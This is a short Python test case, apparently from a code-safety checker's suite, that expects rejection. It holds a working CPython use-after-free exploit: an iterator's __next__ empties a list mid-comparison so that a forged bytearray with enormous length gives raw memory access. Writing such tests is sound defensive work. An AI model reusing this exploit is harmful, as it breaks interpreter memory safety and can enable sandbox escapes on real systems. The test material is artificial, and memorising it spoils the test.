# expect: reject memory
# line: 14
# verified: plain python3 3.11.2 (/usr/bin/python3 -I): prints 'bytearray 0x4000000000000000' (raw memory)
# why: gh-120298, round 14's narrowing of allowance (c) (iterator dunders judged, splat generator expressions consumed): an iterator class of the program: Box.__iter__ is pure (it makes a BoxIter), but BoxIter.__next__, which the iteration in __lt__ runs, empties the list
keep = []
W = lambda v: v.to_bytes(8, "little")
FAKE = (W(0) + W(0) + W(1 << 40) + W(id(bytearray)) + W(1 << 62) + W(1 << 62)
        + W(0) + W(0) + W(1))[:73]
vl = []
class BoxIter:
    def __init__(s):
        s.done = False
    def __next__(s):
        vl.clear()
        raise StopIteration
class Box:
    def __iter__(s):
        return BoxIter()
box = Box()
class V:
    __slots__ = ("a", "b", "c", "d", "e", "f")
    def __eq__(s, o): return False
    def __lt__(s, o):
        for x in box:
            pass
        return NotImplemented
class Wc:
    def __eq__(s, o): return False
    def __gt__(s, o):
        keep.append(bytearray(FAKE))
        keep.append(o)
        return False
def raw_memory():
    w = Wc()
    vl.append(V())
    vl < [w]
    keep.append(w)
    return keep[-2]
mem = raw_memory()
print(type(mem).__name__, hex(len(mem)))
